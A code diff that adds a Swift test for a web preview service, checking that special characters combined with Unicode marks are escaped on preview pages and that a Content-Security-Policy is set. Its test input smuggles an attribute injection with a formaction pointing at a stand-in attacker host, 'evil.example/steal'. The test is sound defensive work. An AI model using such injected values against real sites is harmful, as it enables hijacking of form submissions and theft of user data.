@@ -158,6 +158,45 @@ struct PreviewTests {
         }
     }
 
+    @Test(
+        "a special character followed by a combining mark is escaped on the page, the compare view and /play",
+        arguments: ["\"", "'", "<", ">", "&"]
+    )
+    func combiningMarks(special: String) async throws {
+        try await RouteTests().app().test(.router) { client in
+            for mark in ["\u{301}", "\u{308}", "\u{20DD}", "\u{FE0F}", "\u{200D}"] {
+                let hostile = special + mark + " type=submit formaction=http://evil.example/steal x=" + special + mark
+                let encoded = try #require(hostile.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
+                for uri in [
+                    "/preview/evening-news?session=\(encoded)&at=\(Self.at)&locale=\(encoded)",
+                    "/preview/evening-news/compare?session=\(encoded)&at=\(Self.at)&locale=\(encoded)&count=2",
+                ] {
+                    try await client.execute(uri: uri, method: .get) { response in
+                        #expect(response.status == .ok, "\(uri)")
+                        // Markup outside the JSON of <script type="application/json"> elements (JSON
+                        // quotes by scalar; `<` is \u003c there): the special character never
+                        // stands raw in front of its mark, where it would end an attribute.
+                        var markup = String(buffer: response.body)
+                        while let open = markup.range(of: "<script type=\"application/json\""),
+                            let close = markup.range(of: "</script>", range: open.upperBound..<markup.endIndex)
+                        {
+                            markup.removeSubrange(open.lowerBound..<close.upperBound)
+                        }
+                        let html = Array(markup.utf8)
+                        let raw = Array((special + mark).utf8)
+                        #expect(!html.indices.contains { html[$0...].starts(with: raw) }, "\(uri): raw \(raw) on the page")
+                        #expect(markup.contains("formaction=http://evil.example"), "the hostile value is on the page, escaped")
+                        #expect(response.headers[.contentSecurityPolicy]?.contains("form-action 'self'") == true)
+                    }
+                }
+            }
+            try await client.execute(uri: "/play/evening-news", method: .get) { response in
+                #expect(response.status == .ok)
+                #expect(response.headers[.contentSecurityPolicy]?.contains("default-src 'self'") == true, "/play has a CSP")
+            }
+        }
+    }
+
     @Test("a bad time or count is shown on the page with a 400; unknown campaigns are 404")
     func errors() async throws {
         try await RouteTests().app().test(.router) { client in
@@ -209,6 +248,7 @@ struct PreviewInsertionTests {
         try Data("window.Hls = function () {};\n".utf8).write(to: hlsJS)
         defer { try? FileManager.default.removeItem(at: hlsJS) }
         var policy = SessionPolicy(secret: RouteTests.secret)
+        policy.preview = .open
         policy.previewPlayer = hlsJS
         let app = Application(router: buildRouter(store: RouteTests.store, policy: policy))
         try await app.test(.router) { client in
